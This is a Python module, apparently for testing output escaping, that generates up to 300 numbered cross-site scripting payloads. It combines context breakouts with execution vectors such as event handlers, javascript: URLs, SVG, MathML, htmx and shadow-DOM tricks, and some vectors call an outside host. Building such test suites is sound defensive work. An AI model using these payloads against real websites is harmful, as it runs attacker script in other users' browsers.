"""Text that would run, or break a page, where somebody forgot to escape it: ways out of a context x what then runs."""

from itertools import islice, product

OUT = ("", '"', "'", '">', "'>", "</p>", "</textarea>", "</title>", "-->", "]]>", "</script>", "</option></select>")
"""Ways out of where the text stands."""
RUN = (
    "<script>pwn({n})</script>",
    "<img src=x onerror=pwn({n})>",
    "<svg onload=pwn({n})>",
    "<svg><script>pwn({n})</script></svg>",
    '<iframe srcdoc="<script>parent.pwn({n})</script>"></iframe>',
    '<a href="javascript:pwn({n})" autofocus onfocus=pwn({n})>x</a>',
    "<body onload=pwn({n})>",
    "<details open ontoggle=pwn({n})>",
    "<input autofocus onfocus=pwn({n})>",
    "<video><source onerror=pwn({n})></video>",
    "<math><mtext><mglyph><img src=x onerror=pwn({n})>",
    "<style onload=pwn({n})>@import'//elsewhere.example'</style>",
    '<object data="javascript:pwn({n})"></object>',
    "<embed src=javascript:pwn({n})>",
    '<meta http-equiv=refresh content="0;url=javascript:pwn({n})">',
    "<base href=//elsewhere.example/{n}/>",
    "<form action=javascript:pwn({n})><button autofocus>x</button></form>",
    "<marquee onstart=pwn({n})>x</marquee>",
    "{{{{7*7}}}}<b hx-get=/static hx-trigger=load>{n}</b>",
    " onmouseover=pwn({n}) onfocus=pwn({n}) autofocus tabindex=1 x=<",
    "<x hx-on:load=pwn({n}) hx-vals='js:pwn({n})'>",
    "<noscript><p title='</noscript><img src=x onerror=pwn({n})>'>",
    "<template shadowrootmode=open><script>pwn({n})</script></template>",
    "<img src=//elsewhere.example/{n}.png>",
    "<link rel=stylesheet href=//elsewhere.example/{n}.css>",
)
"""What runs, or calls another site, once it is out; `pwn` is heard by the browser of the claim."""


def payloads(count: int) -> tuple[str, ...]:
    """So many of them, each with a number of its own; 300 are all."""
    every = (out + run.format(n=number) for number, (run, out) in enumerate(product(RUN, OUT)))
    return tuple(islice(every, count))
